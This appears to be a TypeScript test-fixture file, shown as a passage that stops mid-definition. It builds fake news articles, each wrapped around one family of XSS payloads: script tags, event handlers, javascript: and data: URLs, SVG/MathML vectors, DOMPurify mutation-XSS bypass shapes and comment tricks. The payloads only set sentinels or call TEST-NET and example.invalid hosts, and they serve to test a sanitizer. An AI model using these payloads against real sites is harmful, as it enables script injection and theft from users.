// A corpus of hostile news pages: plausible articles with real paragraphs, each carrying one family of attacks.
// Every payload, if it ever ran, would set `window.__pwned` to the article's name, open a dialog, add a frame, or
// request an address off the machine (203.0.113.0/24, TEST-NET-3, or example.invalid): the specs watch for all four.

/** What kind of attack an article carries, to report coverage by family. */
export type AttackFamily =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg-mathml'
  | 'mutation-xss'
  | 'comment-cdata'
  | 'meta-base'
  | 'frame-embed'
  | 'form'
  | 'css'
  | 'tracking'
  | 'escaped-text'
  | 'encoding'
  | 'metadata'
  | 'dom-clobbering'
  | 'size-structure';

/** One hostile article: the page's HTML, what it attacks with, and the text that must survive extraction. */
export interface HostileArticle {
  /** Unique kebab-case name; the file is `NAME.html` and the sentinel value is NAME. */
  name: string;
  family: AttackFamily;
  /** The attack in a sentence. */
  description: string;
  headline: string;
  /** The first paragraph, unique to this article: it must be in the reading text. */
  lead: string;
  /** Body paragraphs shared with the other versions of the same story: they must be in the reading text too. */
  paragraphs: readonly string[];
  /** Markup-looking characters the article shows as text, as a browser would: the reader must show them as they are. */
  literals?: readonly string[];
  /** A phrase a payload wraps with handlers: the specs hover and click it in the reader. */
  touch?: string;
  html: string;
}

/** One news story several hostile articles report: outlet, reporter, date and three body paragraphs. */
interface Story {
  outlet: string;
  reporter: string;
  date: string;
  paragraphs: readonly [string, string, string];
}

const STORIES = {
  harbour: {
    outlet: 'Harbour Gazette',
    reporter: 'Ana Ruiz',
    date: '2025-03-04',
    paragraphs: [
      'The harbour council approved the new budget on Tuesday evening after a long debate about dredging the eastern channel and repairing the old breakwater, which storms damaged twice last winter.',
      'Councillor Marta Okafor said the vote was close, and that the money for the ferry terminal, the fish market roof and a new lifeboat station had been the hardest part to agree.',
      'Opponents argued the channel could wait another year, but the harbour master said larger ships were already turning away and the port would lose business to its neighbours if nothing was done before the summer.',
    ],
  },
  schools: {
    outlet: 'Valley Courier',
    reporter: 'Priya Natarajan',
    date: '2025-05-19',
    paragraphs: [
      'The county education board voted to close three rural primary schools at the end of the school year, merging their pupils into a new campus on the edge of Millbrook.',
      "Parents packed the meeting hall and several read out letters from children, while the board's chair, Daniel Mensah, said falling enrolment left the schools half empty and too costly to heat.",
      'The board promised free buses for every pupil who lives more than two miles from the new campus and said teachers at the closing schools would be offered posts there.',
    ],
  },
  river: {
    outlet: 'Northern Ledger',
    reporter: 'Tom Ashdown',
    date: '2025-01-22',
    paragraphs: [
      'Engineers spent the night shoring up the levee along the Ashwater river after the water rose to within a foot of its crest, the highest level recorded since the floods of 1998.',
      "About four hundred households in the low streets of Kelby were told to leave, and the town's sports hall was opened as a shelter with cots, hot meals and a vet for the pets people brought.",
      'The regional water authority said the river should peak on Thursday morning, and warned that the levee, built in the 1960s, was never designed for storms as long as this one.',
    ],
  },
  hospital: {
    outlet: 'City Herald',
    reporter: 'Grace Oyelaran',
    date: '2025-09-08',
    paragraphs: [
      "Nurses at St Columba's hospital walked out for forty-eight hours on Monday, the first strike at the hospital in more than twenty years, after talks over staffing levels broke down.",
      "The union said wards were routinely run with half the nurses the hospital's own guidelines require, while management said it had hired ninety nurses this year and offered a further pay rise.",
      'Emergency care and the maternity ward stayed open with volunteers from the union, and planned operations were postponed, according to a notice the hospital posted at its entrances.',
    ],
  },
  election: {
    outlet: 'Eastport Tribune',
    reporter: 'Luis Ferreira',
    date: '2025-11-12',
    paragraphs: [
      'Election officials in Eastport began a hand recount of the mayoral vote on Wednesday after the first count left the two leading candidates separated by just forty-one ballots.',
      "Observers from both campaigns watched as clerks unsealed the ballot boxes in the town hall's basement, and the recount is expected to take at least three days, the city clerk, Rosa Lindqvist, said.",
      'The incumbent, Harold Byrne, said he was confident the result would stand, while his challenger, Amira Haddad, said every ballot deserved to be looked at again by human eyes.',
    ],
  },
  drought: {
    outlet: 'Plains Observer',
    reporter: 'Jonas Weber',
    date: '2025-08-01',
    paragraphs: [
      'The water board ordered a ban on garden sprinklers and car washing across the district on Friday, after the reservoir above Dunmore fell to its lowest level in thirty years.',
      "Farmers said the summer's heat had already cut their wheat harvest by a third, and the board's engineer, Tomasz Wolny, said the reservoir would need a wet autumn to recover before next spring.",
      'Fines for breaking the ban start at two hundred dollars, and the board said inspectors would first hand out warnings and leaflets explaining how to save water at home.',
    ],
  },
} satisfies Record<string, Story>;

type StoryName = keyof typeof STORIES;

/** Where each part of a page's payload goes; every part is optional. */
interface Payload {
  /** The whole <title> element's content (default: the headline and the outlet). */
  title?: string;
  /** The charset the page declares (default utf-8). */
  charset?: string;
  head?: string;
  /** Attributes of <body>, with a leading space. */
  body?: string;
  /** After the lead paragraph. */
  top?: string;
  /** Between the first and the second body paragraph. */
  middle?: string;
  /** After the last paragraph, inside the article. */
  bottom?: string;
  /** After the article, before </body>. */
  after?: string;
}

/** What an article definition gives; the page itself is built around it. */
interface Definition {
  name: string;
  family: AttackFamily;
  description: string;
  story: StoryName;
  headline: string;
  lead: string;
  payload: Payload;
  literals?: readonly string[];
  touch?: string;
}

/** Code that marks a window (this one, or the parent of a frame) as compromised by this article; void, so a
 * javascript: URL running it does not replace the document with its value. */
function sentinel(name: string, target: 'window' | 'parent' | 'top' | 'opener' = 'window'): string {
  return `void(${target}.__pwned='${name}')`;
}

/** An address off the machine that names the article (TEST-NET-3: never routed). */
function remote(name: string, path = 'x'): string {
  return `http://203.0.113.66/${name}/${path}`;
}

/** Every character as a decimal character reference (&#106;&#97;…). */
function decimalEntities(text: string): string {
  return [...text].map((character) => `&#${character.codePointAt(0)};`).join('');
}

/** Every character as a zero-padded hex character reference without the semicolon (&#x0006A…). */
function paddedHexEntities(text: string): string {
  return [...text].map((character) => `&#x${character.codePointAt(0)!.toString(16).padStart(5, '0')}`).join('');
}

/** Base64 of UTF-8 text, for data: URLs. */
function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

/** Escapes text for HTML content and attribute values. */
function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** The news page around a payload: head metadata, headline, byline, date, lead, the story's paragraphs. */
function newsPage(definition: Definition): string {
  const story = STORIES[definition.story];
  const payload = definition.payload;
  const [first, second, third] = story.paragraphs;
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="${payload.charset ?? 'utf-8'}">
<title>${payload.title ?? `${escapeHtml(definition.headline)} | ${story.outlet}`}</title>
<meta property="og:site_name" content="${story.outlet}">
${payload.head ?? ''}
</head>
<body${payload.body ?? ''}>
<article>
<h1>${escapeHtml(definition.headline)}</h1>
<p class="byline">By ${story.reporter}</p>
<time datetime="${story.date}">${story.date}</time>
<p>${escapeHtml(definition.lead)}</p>
${payload.top ?? ''}
<p>${first}</p>
${payload.middle ?? ''}
<p>${second}</p>
<p>${third}</p>
${payload.bottom ?? ''}
</article>
${payload.after ?? ''}
</body>
</html>
`;
}

const DEFINITIONS: Definition[] = [
  // Scripts, inline and external.
  {
    name: 'inline-scripts',
    family: 'script',
    description: 'inline <script> in head, body and after the article, in upper case and with a type',
    story: 'harbour',
    headline: 'Harbour budget passes after late-night session',
    lead: 'A budget for the harbour was passed shortly before midnight, ending a session that began with a protest by ferry workers on the council steps.',
    payload: {
      head: `<script>${sentinel('inline-scripts')}</script>`,
      top: `<script type="text/javascript">${sentinel('inline-scripts')}; alert('inline-scripts')</script><SCRIPT>${sentinel('inline-scripts')}</SCRIPT>`,
      after: `<script language="javascript">document.body.innerHTML = '';${sentinel('inline-scripts')}</script>`,
    },
  },
  {
    name: 'external-scripts',
    family: 'script',
    description: 'external scripts: http, protocol-relative, module, async/defer, nomodule, data: source',
    story: 'harbour',
    headline: 'Ferry workers win seat at harbour budget table',
    lead: 'Ferry workers who picketed the council chamber will have a representative on the committee that oversees harbour spending, the council agreed.',
    payload: {
      head: `<script src="${remote('external-scripts', 'tracker.js')}"></script><script async src="//example.invalid/external-scripts.js"></script><script type="module" src="${remote('external-scripts', 'module.js')}"></script>`,
      middle: `<script defer src="https://example.invalid/external-scripts/defer.js"></script><script nomodule src="${remote('external-scripts', 'nomodule.js')}"></script><script src="data:text/javascript,${encodeURIComponent(sentinel('external-scripts'))}"></script>`,
    },
  },
  {
    name: 'script-filter-evasion',
    family: 'script',
    description: 'scripts shaped to slip past naive filters: <scr<script>ipt>, <script/x>, stray attributes, newlines in the tag',
    story: 'harbour',
    headline: 'Breakwater repairs to start in spring, council says',
    lead: 'Repairs to the storm-damaged breakwater will begin in April once contracts are signed, the council said in a statement after the vote.',
    literals: [`ipt>void(window.__pwned='script-filter-evasion')ipt>`, `*/void(window.__pwned='script-filter-evasion')`],
    payload: {
      top: `<scr<script>ipt>${sentinel('script-filter-evasion')}</scr</script>ipt><script/xss>${sentinel('script-filter-evasion')}</script><script
>${sentinel('script-filter-evasion')}</script
><script ">${sentinel('script-filter-evasion')}</script>`,
      bottom: `<<script>${sentinel('script-filter-evasion')};//<</script><script>/*</script>*/${sentinel('script-filter-evasion')}</script>`,
    },
  },
  {
    name: 'script-document-write',
    family: 'script',
    description: 'document.write, eval, setTimeout strings and a script that loads more markup',
    story: 'schools',
    headline: 'Three village schools to close as enrolment falls',
    lead: 'Three village schools that have taught children for more than a century will close in July, after a vote the board called painful but necessary.',
    payload: {
      top: `<script>document.write('<img src="${remote('script-document-write', 'dw.gif')}">')</script><script>eval("${sentinel('script-document-write')}")</script>`,
      middle: `<script>setTimeout("${sentinel('script-document-write')}", 0); new Function("${sentinel('script-document-write')}")()</script>`,
    },
  },
  {
    name: 'json-ld-breakout',
    family: 'script',
    description: 'JSON-LD whose string closes the script element and opens another one; markup in its headline',
    story: 'schools',
    headline: 'Millbrook campus to take pupils from closing schools',
    lead: 'Pupils from the three closing schools will move to a new campus in Millbrook, which the board says will have a library, a gym and science rooms.',
    payload: {
      head: `<script type="application/ld+json">{"@type":"NewsArticle","datePublished":"2025-05-19","description":"</script><script>${sentinel('json-ld-breakout')}</script>"}</script>`,
      bottom: `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror=${sentinel('json-ld-breakout')}>"}</script>`,
    },
  },
  {
    name: 'speculation-rules',
    family: 'script',
    description: 'speculation rules, an import map and a service worker registration that would prefetch and install from off the machine',
    story: 'schools',
    headline: 'Parents read children’s letters at school closure meeting',
    lead: 'Parents took turns at the microphone to read letters their children had written about the schools, and several board members were visibly moved.',
    payload: {
      head: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${remote('speculation-rules', 'prefetch')}"]}],"prerender":[{"source":"list","urls":["${remote('speculation-rules', 'prerender')}"]}]}</script><script type="importmap">{"imports":{"x":"${remote('speculation-rules', 'map.js')}"}}</script>`,
      bottom: `<script>${sentinel('speculation-rules')};navigator.serviceWorker.register('${remote('speculation-rules', 'sw.js')}')</script>`,
    },
  },

  // Event handlers.
  {
    name: 'image-onerror',
    family: 'event-handler',
    description: 'onerror on broken images in every spelling: quoted, unquoted, slash-separated, mixed case, <image>',
    story: 'river',
    headline: 'Levee holds as Ashwater river reaches record height',
    lead: 'The levee on the Ashwater held through the night as the river reached its highest level in a generation, engineers said at dawn.',
    payload: {
      top: `<img src=x onerror="${sentinel('image-onerror')}"><img src="" oNeRrOr=${sentinel('image-onerror')}><img/src=x/onerror=${sentinel('image-onerror')}><image src=x onerror="${sentinel('image-onerror')}">`,
      middle: `<img src=x onerror="eval(atob('${base64(sentinel('image-onerror'))}'))"><img src=x onerror="\\u0077indow.__pwned='image-onerror'"><img src onerror="alert('image-onerror')">`,
    },
  },
  {
    name: 'body-load-handlers',
    family: 'event-handler',
    description: 'onload, onpageshow, onfocus, onhashchange, onresize and onbeforeunload on <body>',
    story: 'river',
    headline: 'Four hundred homes evacuated in Kelby',
    lead: 'Residents of four hundred homes in Kelby spent the night in the sports hall after police went door to door asking them to leave.',
    payload: {
      body: ` onload="${sentinel('body-load-handlers')}" onpageshow="${sentinel('body-load-handlers')}" onfocus="${sentinel('body-load-handlers')}" onhashchange="${sentinel('body-load-handlers')}" onresize="${sentinel('body-load-handlers')}" onbeforeunload="return 'stay'"`,
    },
  },
  {
    name: 'pointer-handlers',
    family: 'event-handler',
    description: 'onmouseover, onmouseenter, onpointerover, onclick, onmousemove and oncopy on words of a paragraph',
    story: 'river',
    headline: 'River to peak on Thursday, water authority says',
    lead: 'The Ashwater should reach its peak on Thursday morning before falling slowly over the weekend, the regional water authority forecast.',
    touch: 'before the water began to fall',
    payload: {
      top: `<p>An engineer said the crest would pass <b onmouseover="${sentinel('pointer-handlers')}" onmouseenter="${sentinel('pointer-handlers')}" onpointerover="${sentinel('pointer-handlers')}" onclick="${sentinel('pointer-handlers')}" onmousemove="${sentinel('pointer-handlers')}" oncopy="${sentinel('pointer-handlers')}">before the water began to fall</b>, if the rain held off.</p>`,
    },
  },
  {
    name: 'autofocus-handlers',
    family: 'event-handler',
    description: 'autofocus with onfocus/onfocusin/onblur on input, textarea, select, a tabindex div and contenteditable',
    story: 'hospital',
    headline: 'Nurses strike at St Columba’s for the first time in decades',
    lead: "Nurses at St Columba's formed picket lines at dawn on Monday, the first walkout at the hospital since the early 2000s.",
    payload: {
      top: `<input autofocus onfocus="${sentinel('autofocus-handlers')}"><textarea autofocus onfocus="${sentinel('autofocus-handlers')}"></textarea><select autofocus onfocus="${sentinel('autofocus-handlers')}"><option>x</option></select>`,
      middle: `<div tabindex="1" autofocus onfocusin="${sentinel('autofocus-handlers')}" onblur="${sentinel('autofocus-handlers')}">Hospital notice</div><div contenteditable autofocus onfocus="${sentinel('autofocus-handlers')}">edit</div><a href="#" autofocus onfocus="${sentinel('autofocus-handlers')}">.</a>`,
    },
  },
  {
    name: 'animation-handlers',
    family: 'event-handler',
    description: 'onanimationstart, onanimationend and ontransitionend fired by the page’s own CSS',
    story: 'hospital',
    headline: 'Union says wards run at half strength',
    lead: "The nurses' union published figures it says show wards running with half the staff the hospital's own rules require on most night shifts.",
    payload: {
      head: `<style>@keyframes pulse { from { opacity: 0.9 } to { opacity: 1 } } .pulse { animation: pulse 1ms } .fade { transition: color 1ms } .fade:hover { color: red }</style>`,
      top: `<div class="pulse" onanimationstart="${sentinel('animation-handlers')}" onanimationend="${sentinel('animation-handlers')}">.</div><p style="animation-name:pulse;animation-duration:1ms" onwebkitanimationstart="${sentinel('animation-handlers')}">Figures were compiled from rota sheets.</p>`,
      middle: `<div class="fade" ontransitionend="${sentinel('animation-handlers')}" ontransitionrun="${sentinel('animation-handlers')}">.</div>`,
    },
  },
  {
    name: 'details-ontoggle',
    family: 'event-handler',
    description: 'ontoggle on an open <details>, onstart on <marquee>, onscroll on a scrolled box',
    story: 'hospital',
    headline: 'Hospital postpones planned operations during walkout',
    lead: 'Planned operations at the hospital were postponed for two days, and patients were told by text message when their new dates would be.',
    payload: {
      top: `<details open ontoggle="${sentinel('details-ontoggle')}"><summary>Notice to patients</summary>Operations are postponed.</details>`,
      middle: `<marquee onstart="${sentinel('details-ontoggle')}">Strike updates</marquee><div style="overflow:auto;height:1px" onscroll="${sentinel('details-ontoggle')}"><br><br><br><span id="down">.</span></div>`,
    },
  },
  {
    name: 'media-handlers',
    family: 'event-handler',
    description: 'onerror and onloadstart on video, audio, source and track; onerror on input type=image and object',
    story: 'election',
    headline: 'Eastport orders hand recount in mayoral race',
    lead: 'Eastport will recount every ballot in the mayoral race by hand after the first tally put the two leading candidates forty-one votes apart.',
    payload: {
      top: `<video src=x onerror="${sentinel('media-handlers')}" onloadstart="${sentinel('media-handlers')}"></video><audio src=x onerror="${sentinel('media-handlers')}"></audio><video><source onerror="${sentinel('media-handlers')}"><track src=x onerror="${sentinel('media-handlers')}"></video>`,
      middle: `<input type="image" src="x" onerror="${sentinel('media-handlers')}"><object data="x" onerror="${sentinel('media-handlers')}"></object>`,
    },
  },
  {
    name: 'custom-element-handlers',
    family: 'event-handler',
    description: 'unknown and custom elements with tabindex, id and handlers (onfocus via #fragment, onbeforecopy, onpaste)',
    story: 'election',
    headline: 'Recount observers take their places in town hall basement',
    lead: 'Observers from both campaigns signed in at the town hall at eight in the morning and were given places along the counting tables.',
    payload: {
      top: `<xss id="x" tabindex="1" onfocus="${sentinel('custom-element-handlers')}" autofocus>.</xss><news-widget onclick="${sentinel('custom-element-handlers')}" onpaste="${sentinel('custom-element-handlers')}">Live results</news-widget>`,
      middle: `<p onbeforecopy="${sentinel('custom-element-handlers')}" onselectstart="${sentinel('custom-element-handlers')}" onauxclick="${sentinel('custom-element-handlers')}">Counting began at nine.</p>`,
    },
  },

  // javascript:, data: and vbscript: URLs.
  {
    name: 'javascript-links',
    family: 'url-scheme',
    description: 'javascript: links in mixed case, with leading space, tab, newline, &colon; and control characters',
    story: 'election',
    headline: 'Incumbent says recount will confirm his win',
    lead: 'Mayor Harold Byrne told supporters outside the town hall that he expected the recount to confirm the result of election night.',
    touch: 'the full count sheets',
    payload: {
      top: `<p>Readers can see <a href="javascript:${sentinel('javascript-links')}">the full count sheets</a>, <a href="JaVaScRiPt:${sentinel('javascript-links')}">the ward totals</a>, <a href=" javascript:${sentinel('javascript-links')}">the rules</a>, <a href="java&#x09;script:${sentinel('javascript-links')}">the timetable</a>, <a href="java&#x0A;script:${sentinel('javascript-links')}">the map</a>, <a href="javascript&colon;${sentinel('javascript-links')}">the notice</a> and <a href="&#14;javascript:${sentinel('javascript-links')}">the appeal</a>.</p>`,
    },
  },
  {
    name: 'entity-encoded-javascript',
    family: 'url-scheme',
    description: 'javascript: URLs written entirely as decimal and zero-padded hex character references',
    story: 'election',
    headline: 'Challenger Haddad says every ballot deserves a second look',
    lead: 'Amira Haddad, who trails by forty-one votes, said she would accept the recount result whatever it was, but wanted human eyes on every ballot.',
    touch: "Haddad's statement",
    payload: {
      top: `<p>Read <a href="${decimalEntities(`javascript:${sentinel('entity-encoded-javascript')}`)}">Haddad's statement</a> and <a href="${paddedHexEntities(`javascript:${sentinel('entity-encoded-javascript')}`)}">the campaign's letter</a>.</p>`,
      middle: `<iframe src="${decimalEntities(`javascript:${sentinel('entity-encoded-javascript', 'parent')}`)}"></iframe>`,
    },
  },
  {
    name: 'javascript-everywhere',
    family: 'url-scheme',
    description: 'javascript: in iframe, object, embed, area, img, form action, button formaction and input formaction',
    story: 'drought',
    headline: 'Sprinkler ban ordered as Dunmore reservoir drops',
    lead: 'Garden sprinklers and car washing are banned across the district from Saturday, the water board announced after an emergency meeting.',
    payload: {
      top: `<iframe src="javascript:${sentinel('javascript-everywhere', 'parent')}"></iframe><object data="javascript:${sentinel('javascript-everywhere')}"></object><embed src="javascript:${sentinel('javascript-everywhere')}">`,
      middle: `<map name="m"><area shape="rect" coords="0,0,500,500" href="javascript:${sentinel('javascript-everywhere')}"></map><img src="javascript:${sentinel('javascript-everywhere')}" usemap="#m"><form action="javascript:${sentinel('javascript-everywhere')}"><button formaction="javascript:${sentinel('javascript-everywhere')}">Report a neighbour</button><input type="submit" formaction="javascript:${sentinel('javascript-everywhere')}" value="Send"></form>`,
    },
  },
  {
    name: 'data-urls',
    family: 'url-scheme',
    description: 'data: URLs carrying HTML and SVG with scripts in a, iframe, object, embed and img',
    story: 'drought',
    headline: 'Farmers count cost of driest summer in thirty years',
    lead: 'Wheat farmers around Dunmore say the driest summer in three decades has cut their harvest by a third and left pastures brown by July.',
    touch: 'the harvest figures',
    payload: {
      top: `<p>See <a href="data:text/html;base64,${base64(`<script>${sentinel('data-urls', 'opener')}</script>`)}" target="_blank">the harvest figures</a> and <a href="data:text/html,<script>alert('data-urls')</script>">the rainfall chart</a>.</p>`,
      middle: `<iframe src="data:text/html,<script>${sentinel('data-urls', 'parent')}</script>"></iframe><object data="data:text/html;base64,${base64(`<script>${sentinel('data-urls', 'parent')}</script>`)}"></object><embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${sentinel('data-urls', 'parent')}"/>`)}"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${sentinel('data-urls')}'/>">`,
    },
  },
  {
    name: 'vbscript-and-odd-schemes',
    family: 'url-scheme',
    description: 'vbscript:, livescript:, mocha:, jar:, blob: and filesystem: URLs in links, images and frames',
    story: 'drought',
    headline: 'Water board warns fines will follow warnings',
    lead: 'Inspectors will hand out leaflets before they hand out fines, the water board said, but repeat offenders could pay up to two hundred dollars.',
    touch: 'the list of exemptions',
    payload: {
      top: `<p>Read <a href="vbscript:msgbox('vbscript-and-odd-schemes')">the list of exemptions</a>, <a href="livescript:${sentinel('vbscript-and-odd-schemes')}">the bylaw</a> or <a href="mocha:${sentinel('vbscript-and-odd-schemes')}">the map</a>.</p>`,
      middle: `<img src="vbscript:msgbox('vbscript-and-odd-schemes')"><iframe src="jar:${remote('vbscript-and-odd-schemes', 'a.jar')}!/x.html"></iframe><a href="blob:${remote('vbscript-and-odd-schemes')}">.</a><a href="filesystem:${remote('vbscript-and-odd-schemes')}">.</a>`,
    },
  },

  // SVG and MathML.
  {
    name: 'svg-script',
    family: 'svg-mathml',
    description: 'SVG with <script>, external script href, onload on svg and its children, <set>/<animate> onbegin',
    story: 'harbour',
    headline: 'Lifeboat station gets funding in harbour budget',
    lead: 'The harbour will get a new lifeboat station after volunteers spent two years raising half the cost themselves, the council confirmed.',
    payload: {
      top: `<svg xmlns="http://www.w3.org/2000/svg" onload="${sentinel('svg-script')}"><script>${sentinel('svg-script')}</script><script href="${remote('svg-script', 'svg.js')}"/><circle r="4" onload="${sentinel('svg-script')}"/></svg>`,
      middle: `<svg><animate onbegin="${sentinel('svg-script')}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="${sentinel('svg-script')}"/><animate attributeName="href" values="javascript:${sentinel('svg-script')}"/><rect width="10" height="10"><set attributeName="x" to="1" onbegin="${sentinel('svg-script')}"/></rect></svg>`,
    },
  },
  {
    name: 'svg-foreign-object',
    family: 'svg-mathml',
    description: 'SVG foreignObject holding HTML images, iframes and scripts; SVG links with xlink:href',
    story: 'harbour',
    headline: 'Fish market roof to be replaced this year',
    lead: 'The leaking roof over the fish market will be replaced before the autumn, after traders complained for years about buckets on the floor.',
    payload: {
      top: `<svg><foreignObject width="100" height="100"><img src=x onerror="${sentinel('svg-foreign-object')}"><iframe srcdoc="<script>${sentinel('svg-foreign-object', 'parent')}</script>"></iframe><script>${sentinel('svg-foreign-object')}</script></foreignObject></svg>`,
      middle: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${sentinel('svg-foreign-object')}"><text x="0" y="15">market plans</text></a><a href="javascript:${sentinel('svg-foreign-object')}"><rect width="50" height="50"/></a></svg>`,
    },
  },
  {
    name: 'svg-use-image',
    family: 'svg-mathml',
    description: 'SVG <use> of a data: and a remote document, <image>, <feImage> and a remote <img> of an SVG',
    story: 'river',
    headline: 'Shelter in Kelby sports hall takes in pets and their owners',
    lead: 'The sports hall in Kelby became a shelter overnight, with camp beds in rows, a kitchen run by volunteers and a corner set aside for dogs.',
    payload: {
      top: `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${sentinel('svg-use-image')}"/></svg>`)}#x"/><use xlink:href="${remote('svg-use-image', 'sprite.svg')}#icon"/></svg>`,
      middle: `<svg><image href="${remote('svg-use-image', 'image.png')}" width="10" height="10"/><filter id="f"><feImage href="${remote('svg-use-image', 'fe.png')}"/></filter></svg><img src="${remote('svg-use-image', 'chart.svg')}">`,
    },
  },
  {
    name: 'mathml-links',
    family: 'svg-mathml',
    description: 'MathML with href on mi/mtext, maction with xlink:href, and an HTML image inside annotation-xml',
    story: 'drought',
    headline: 'Reservoir needs a wet autumn, engineer warns',
    lead: 'It will take months of steady rain to refill the Dunmore reservoir, the water board’s engineer warned as levels kept falling.',
    payload: {
      top: `<p>The engineer's formula for the <math><mi href="javascript:${sentinel('mathml-links')}">rainfall needed</mi><mo>=</mo><mtext href="javascript:${sentinel('mathml-links')}">deficit</mtext></math> was published by the board.</p>`,
      middle: `<math><maction actiontype="statusline" xlink:href="javascript:${sentinel('mathml-links')}"><mtext>levels</mtext><mtext>click</mtext></maction><semantics><annotation-xml encoding="text/html"><img src=x onerror="${sentinel('mathml-links')}"></annotation-xml></semantics></math>`,
    },
  },

  // Mutation XSS: markup that changes meaning when a sanitizer's output is parsed again.
  {
    name: 'mxss-mglyph-style',
    family: 'mutation-xss',
    description: 'the DOMPurify bypass shapes <math><mtext><table><mglyph><style>…: inert parsed once, live once a sanitizer serializes them and the page parses them again',
    story: 'schools',
    headline: 'Free buses promised for pupils of closing schools',
    lead: 'Every pupil who lives more than two miles from the new Millbrook campus will get a free seat on a school bus, the board promised parents.',
    payload: {
      middle: `<math><mtext><table><mglyph><style><img src=x onerror="${sentinel('mxss-mglyph-style')}"></style></mglyph></table></mtext></math>`,
      bottom: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${sentinel('mxss-mglyph-style')}&gt;"></mglyph></table></mtext></math>`,
    },
  },
  {
    name: 'mxss-svg-style-attribute',
    family: 'mutation-xss',
    description: 'the shape <svg></p><style><a id="</style><img src=1 onerror=…>"> that flips between raw text and markup',
    story: 'schools',
    headline: 'Teachers at closing schools offered posts at new campus',
    lead: 'Teachers at the three schools due to close have been promised jobs at the new campus, though the union says some posts will be part time.',
    payload: {
      middle: `<svg></p><style><a id="</style><img src=1 onerror=${sentinel('mxss-svg-style-attribute')}>"></a></style></svg>`,
    },
  },
  {
    name: 'mxss-namespace-confusion',
    family: 'mutation-xss',
    description: 'namespace confusion shapes: form/math/mglyph/style and math/mi/mglyph/svg/mtext/textarea with a closing tag in an attribute',
    story: 'hospital',
    headline: 'Management says ninety nurses hired this year',
    lead: 'Hospital managers said they had hired ninety nurses since January and offered the union a further pay rise before talks collapsed.',
    payload: {
      middle: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${sentinel('mxss-namespace-confusion')}"></style></mglyph></form></mtext></math></form>`,
      bottom: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${sentinel('mxss-namespace-confusion')} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
    },
  },
  {
    name: 'mxss-raw-text-elements',
    family: 'mutation-xss',
    description: 'closing tags inside attributes of noscript, noembed, noframes, iframe, xmp, title and textarea',
    story: 'hospital',
    headline: 'Maternity ward stays open with union volunteers',
    lead: 'The maternity ward and the emergency department kept running through the strike, staffed by nurses the union released from the picket line.',
    payload: {
      top: `<noscript><p title="</noscript><img src=x onerror=${sentinel('mxss-raw-text-elements')}>"></p></noscript><noembed><img title="</noembed><img src=x onerror=${sentinel('mxss-raw-text-elements')}>"></noembed><noframes><p title="</noframes><img src=x onerror=${sentinel('mxss-raw-text-elements')}>"></p></noframes>`,
      middle: `<iframe><img title="</iframe><img src=x onerror=${sentinel('mxss-raw-text-elements')}>"></iframe><textarea><img title="</textarea><img src=x onerror=${sentinel('mxss-raw-text-elements')}>"></textarea><title><img title="</title><img src=x onerror=${sentinel('mxss-raw-text-elements')}>"></title>`,
    },
  },
  {
    name: 'mxss-template-select',
    family: 'mutation-xss',
    description: 'template contents, select/template/style, and a table that foster-parents an image out of it',
    story: 'election',
    headline: 'Clerk says recount will take at least three days',
    lead: 'The city clerk, Rosa Lindqvist, said the recount would take at least three days and that results would be posted ward by ward as they were confirmed.',
    payload: {
      top: `<template><img src=x onerror="${sentinel('mxss-template-select')}"><script>${sentinel('mxss-template-select')}</script></template><select><template><style><img src=x onerror="${sentinel('mxss-template-select')}"></style></template></select>`,
      middle: `<table><img src=x onerror="${sentinel('mxss-template-select')}"><tr><td>Ward 1</td></tr></table><table><caption><svg><style><img src=x onerror="${sentinel('mxss-template-select')}"></style></svg></caption></table>`,
    },
  },
  {
    name: 'mxss-xmp-plaintext',
    family: 'mutation-xss',
    description: '<xmp> and <listing> around markup, and an unclosed <plaintext> after the article',
    story: 'river',
    headline: 'Levee built in the 1960s was never meant for this, authority says',
    lead: 'The Ashwater levee was designed for short, sharp floods, not the weeks of rain the valley has had since Christmas, the water authority said.',
    literals: [`<img src=x onerror="void(window.__pwned='mxss-xmp-plaintext')">`, `<img src=x onerror=void(window.__pwned='mxss-xmp-plaintext')>`],
    payload: {
      middle: `<xmp><img src=x onerror="${sentinel('mxss-xmp-plaintext')}"></xmp><listing>&lt;img src=x onerror=${sentinel('mxss-xmp-plaintext')}&gt;</listing>`,
      after: `<plaintext><img src=x onerror="${sentinel('mxss-xmp-plaintext')}">`,
    },
  },

  // Comments and CDATA.
  {
    name: 'comment-tricks',
    family: 'comment-cdata',
    description: 'comments that end early or oddly (--!>, <!-->, a comment inside an attribute) and IE conditional comments',
    story: 'drought',
    headline: 'Car wash owners say ban will cost them the summer',
    lead: 'Owners of the district’s car washes, who are covered by the ban, say they may have to lay off staff until the reservoir recovers.',
    payload: {
      top: `<!--<img src="--><img src=x onerror="${sentinel('comment-tricks')}">--><!-- --!><img src=x onerror="${sentinel('comment-tricks')}"> --><!--><img src=x onerror="${sentinel('comment-tricks')}">-->`,
      middle: `<!--[if IE]><script>${sentinel('comment-tricks')}</script><![endif]--><!--[if gte IE 4]><img src=x onerror="${sentinel('comment-tricks')}"><![endif]--><p title="<!--"><img src=x onerror="${sentinel('comment-tricks')}"></p><!-- -->`,
    },
  },
  {
    name: 'cdata-tricks',
    family: 'comment-cdata',
    description: 'CDATA sections in HTML, SVG and MathML that hide or reveal markup depending on the parser',
    story: 'harbour',
    headline: 'Harbour master says big ships are turning away',
    lead: 'Larger cargo ships have started turning away from the port because the eastern channel is too shallow at low tide, the harbour master said.',
    payload: {
